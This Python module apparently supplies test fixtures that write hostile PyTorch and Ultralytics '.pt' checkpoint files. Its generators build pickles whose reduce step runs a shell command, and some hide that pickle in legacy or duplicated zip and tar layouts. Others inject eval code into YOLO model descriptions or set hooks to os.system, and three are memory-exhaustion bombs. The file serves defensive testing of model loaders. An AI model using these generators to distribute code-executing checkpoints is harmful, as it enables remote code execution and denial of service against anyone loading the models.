"""Hostile checkpoints of torch and ultralytics: files `.pt`."""

from __future__ import annotations

import io
import os
import pickle
import tarfile
import warnings
import zipfile
from pathlib import Path
from typing import Any

import torch
from ultralytics.nn.tasks import ClassificationModel, DetectionModel


class _Call:
    """Calls a function when it is unpickled."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> Any:
        return self.call


def _zip_of(content: object, **options: Any) -> bytes:
    file = io.BytesIO()
    torch.save(content, file, **options)
    return file.getvalue()


def _written(path: Path, content: bytes) -> Path:
    path.write_bytes(content)
    return path


def _harmless() -> dict[str, Any]:
    return {"model": torch.nn.ReLU()}


def call_of_a_shell(folder: Path, command: str) -> Path:
    """Write a torch zip whose pickle calls a shell."""
    return _written(folder / "model.pt", _zip_of({"model": _Call(os.system, command)}))


def legacy_pickle_in_front(folder: Path, command: str) -> Path:
    """Write a pickle that calls a shell in front of a harmless torch zip: read from its end it looks clean."""
    return _written(folder / "model.pt", pickle.dumps(_Call(os.system, command), protocol=2) + _zip_of(_harmless()))


def legacy_file(folder: Path, command: str) -> Path:
    """Write the format before zips, whose pickle calls a shell."""
    content = _zip_of({"model": _Call(os.system, command)}, _use_new_zipfile_serialization=False)
    return _written(folder / "model.pt", content)


def legacy_tar(folder: Path, command: str) -> Path:
    """Write the oldest format, a tar of pickles, each of which calls a shell."""
    content = pickle.dumps(_Call(os.system, command), protocol=2)
    with tarfile.open(folder / "model.pt", "w") as archive:
        for name in ("storages", "tensors", "pickle"):
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return folder / "model.pt"


def two_pickles_of_one_name(folder: Path, command: str) -> Path:
    """Write a zip with two entries of the same name: a harmless one, and one that calls a shell."""
    path = folder / "model.pt"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", pickle.dumps(_Call(os.system, command), protocol=2))
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile warns too
            archive.writestr("archive/data.pkl", pickle.dumps({}, protocol=2))
        archive.writestr("archive/version", "3\n")
    return path


def call_of_a_layer_that_evaluates(folder: Path, command: str) -> Path:
    """Write a file that calls a class of ultralytics, with a description whose activation calls a shell."""
    activation = f"__import__('os').system({command!r})"
    layers = {"backbone": [[-1, 1, "Conv", [8, 3, 2]]], "head": [[[0], 1, "Detect", ["nc"]]]}
    call = _Call(DetectionModel, {"nc": 2, "ch": 3, "activation": activation, **layers}, 3, 2, False)
    return _written(folder / "model.pt", _zip_of({"model": call}))


def description_that_is_evaluated(folder: Path, command: str) -> Path:
    """Write an honest model whose description, plain data, has an activation that calls a shell."""
    model = ClassificationModel("yolo11n-cls.yaml", verbose=False)
    model.yaml["activation"] = f"(__import__('os').system({command!r}), torch.nn.SiLU())[1]"
    return _written(folder / "model.pt", _zip_of({"model": model}))


def description_that_names_a_function(folder: Path, command: str) -> Path:
    """Write an honest model whose description names as a layer a function that unpickles a file."""
    evil = call_of_a_shell(folder, command).rename(folder / "evil.pt")
    model = ClassificationModel("yolo11n-cls.yaml", verbose=False)
    model.yaml["backbone"][0] = [-1, 1, "torch_safe_load", [str(evil)]]
    return _written(folder / "model.pt", _zip_of({"model": model}))


def endless_description(folder: Path, command: str) -> Path:
    """Write an honest model whose description requires a thousand million layers."""
    model = ClassificationModel("yolo11n-cls.yaml", verbose=False)
    model.yaml["backbone"].append([-1, 10**9, "nn.Identity", []])
    return _written(folder / "model.pt", _zip_of({"model": model}))


def hooks_and_methods_in_attributes(folder: Path, command: str) -> Path:
    """Write an honest model with attributes that hide its methods, and hooks that call a shell."""
    model: Any = ClassificationModel("yolo11n-cls.yaml", verbose=False)
    model.forward = model.fuse = os.system
    model._forward_hooks[0] = os.system
    return _written(folder / "model.pt", _zip_of({"model": model}))


def memo_of_many_gigabytes(folder: Path, command: str) -> Path:
    """Write a pickle that stores at memo index 2,147,483,647: Python's C reader allocates all indices before it."""
    return _zip_with(folder / "model.pt", b"\x80\x02Nr\xff\xff\xff\x7f.")


def bytes_of_many_gigabytes(folder: Path, command: str) -> Path:
    """Write a pickle that claims that a terabyte of bytes follows."""
    return _zip_with(folder / "model.pt", b"\x80\x05\x96" + (2**40).to_bytes(8, "little") + b".")


def compressed_zeros(folder: Path, command: str) -> Path:
    """Write a zip whose compressed weights are larger than the memory."""
    path = folder / "model.pt"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive/data.pkl", pickle.dumps({}, protocol=2))
        with archive.open("archive/data/0", "w") as file:
            for _ in range(256):
                file.write(bytes(2**20))
    return path


def _zip_with(path: Path, content: bytes) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", content)
        archive.writestr("archive/version", "3\n")
    return path
